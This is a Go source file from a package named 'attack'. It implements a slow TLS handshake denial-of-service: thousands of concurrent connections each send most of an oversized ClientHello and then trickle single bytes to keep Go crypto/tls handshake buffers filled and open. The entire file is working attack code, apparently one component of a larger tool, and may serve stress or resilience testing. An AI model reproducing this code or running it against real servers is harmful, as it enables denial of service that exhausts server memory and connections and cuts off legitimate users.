package attack

import (
	"bytes"
	"context"
	"time"
)

// halfHellos is how many connections begin a handshake, and helloSize how much each sends of its
// first message. Go's crypto/tls holds up to 64 KiB of it, in a buffer of twice that size.
const (
	halfHellos = 3000
	helloSize  = 60_000
)

// hellos sends most of a large ClientHello on each connection, and then a byte now and then. A
// connection that was closed is replaced by the next one.
func hellos(ctx context.Context, c *crew, ready func()) error {
	half := halfHello()
	return together(ctx, halfHellos, func(i int) {
		for ctx.Err() == nil {
			raw, err := c.connect(ctx, i, dialOptions{})
			if err != nil {
				wait(ctx, refusedPause)
				continue
			}
			k := c.enter(&conn{crew: c, raw: raw})
			_ = raw.SetWriteDeadline(time.Now().Add(firstTimeout))
			_, err = raw.Write(half)
			for err == nil && !k.ended() && wait(ctx, beat) {
				_, err = raw.Write(helloRecord([]byte{0}))
			}
			k.leave(ctx.Err() == nil)
			wait(ctx, beat)
		}
	}, ready)
}

// halfHello returns records with the start of a ClientHello.
func halfHello() []byte {
	const limit = 16_000 // of a record
	message := append([]byte{1, 0, 0xff, 0xff}, make([]byte, helloSize-4)...)
	var all bytes.Buffer
	for len(message) > 0 {
		n := min(len(message), limit)
		all.Write(helloRecord(message[:n]))
		message = message[n:]
	}
	return all.Bytes()
}

// helloRecord returns a record of a handshake that is not encrypted yet.
func helloRecord(data []byte) []byte {
	return append([]byte{22, 3, 1, byte(len(data) >> 8), byte(len(data))}, data...)
}
